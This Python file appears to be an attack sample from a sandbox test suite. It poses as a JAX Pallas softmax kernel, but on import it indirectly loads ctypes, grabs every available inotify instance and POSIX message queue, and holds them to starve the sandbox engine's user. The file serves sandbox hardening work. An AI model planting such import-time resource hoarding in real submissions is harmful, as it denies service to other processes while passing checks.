"""Attack: take every inotify instance and every byte of POSIX message queue the kernel allows
the sandbox's user, and hold them while the check goes on. Those counts are kept per user and
charged up to the user that made the sandbox's namespace, the engine's: before seccomp refused
both, the engine (and whatever else runs as its user) could open neither until this child died,
while the check passed."""

import typing

import jax
import jax.numpy as jnp
from jax.experimental import pallas as pl

load = typing.sys.modules["importlib"].import_module
os = load("os")
time = load("time")
ctypes = load("ctypes")
TARGETS = {}  # the test writes {"hold": seconds to hold them before answering} here

libc = ctypes.CDLL(None, use_errno=True)
watches = queues = 0
while watches < 4096 and libc.inotify_init1(0) >= 0:
    watches += 1
while queues < 4096 and libc.mq_open(f"/hoard{queues}".encode(), 0o100 | 2, 0o600, None) >= 0:
    queues += 1
print(f"ATTACK inotify={watches} mqueues={queues}", flush=True)
time.sleep(TARGETS.get("hold", 8))


def kernel(x):
    return pl.pallas_call(_softmax, out_shape=jax.ShapeDtypeStruct(x.shape, x.dtype))(x)


def _softmax(x_ref, o_ref):
    x = x_ref[...]
    e = jnp.exp(x - jnp.max(x, axis=-1, keepdims=True))
    o_ref[...] = e / jnp.sum(e, axis=-1, keepdims=True)
